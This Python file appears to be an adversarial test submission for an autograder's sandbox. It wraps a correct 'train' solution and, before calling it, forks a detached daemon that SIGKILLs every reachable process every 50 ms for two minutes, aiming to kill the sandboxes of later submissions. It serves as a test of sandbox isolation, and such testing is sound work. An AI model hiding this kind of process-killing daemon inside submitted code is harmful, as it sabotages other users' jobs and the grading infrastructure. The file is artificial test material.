# target: 01_manual_autograd
# base: solution
# stopped-at: jailed
# order: late
"""Leaves a daemon that SIGKILLs every process it may signal, every 50 ms, for two minutes.

Left alive, it would kill the sandboxes of the submissions graded after it
(the late controls come right after): only a user of its own per sandbox,
swept when the sandbox closes (``jailed``), stops it. It only signals everyone
(``kill(-1)``) where that cannot reach beyond the grader: as a user of its
own, or inside the zygote's PID namespace.
"""
import os
import signal
import time

_honest_train = train  # noqa: F821 - the reference solution's, defined above this attack


def _confined():
    if os.geteuid() not in (0, int("@TEST_UID@")):
        return True
    try:
        with open("/proc/1/cmdline", "rb") as command:
            return b"autograder.sandbox.zygote" in command.read()
    except OSError:
        return False


def _haunt():
    if os.fork() != 0:
        return
    try:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        end = time.monotonic() + 120
        while time.monotonic() < end and _confined():
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
            time.sleep(0.05)
    finally:
        os._exit(0)


def train(x, y, w1, w2, lr, iterations):
    _haunt()
    return _honest_train(x, y, w1, w2, lr, iterations)
